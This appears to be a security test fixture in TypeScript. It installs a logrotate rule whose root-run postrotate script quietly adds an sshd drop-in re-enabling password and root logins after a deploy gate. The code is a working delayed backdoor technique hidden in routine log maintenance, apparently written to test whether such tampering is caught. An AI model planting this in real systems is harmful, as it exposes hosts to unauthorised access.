// Tries: a logrotate rule for the gateway's logs whose postrotate script, run by root daily, also
// adds an sshd drop-in sorting first that allows passwords.
// Insecure: a day after the deploy gate, password logins are back (and root may log in).
import { compose, remote } from "../_lib/compose";

const conf = [
  "/var/log/openclaw/*.log {",
  "  daily",
  "  rotate 7",
  "  missingok",
  "  postrotate",
  "    printf 'PasswordAuthentication yes\\nPermitRootLogin yes\\n' > /etc/ssh/sshd_config.d/0-support.conf; systemctl reload ssh",
  "  endscript",
  "}",
].join("\n");
compose({ afterConfigure: [remote("gateway-logrotate", `sudo install -d -m 0755 /var/log/openclaw && sudo touch /var/log/openclaw/gateway.log\nsudo tee /etc/logrotate.d/openclaw >/dev/null <<'CONF'\n${conf}\nCONF`)] });
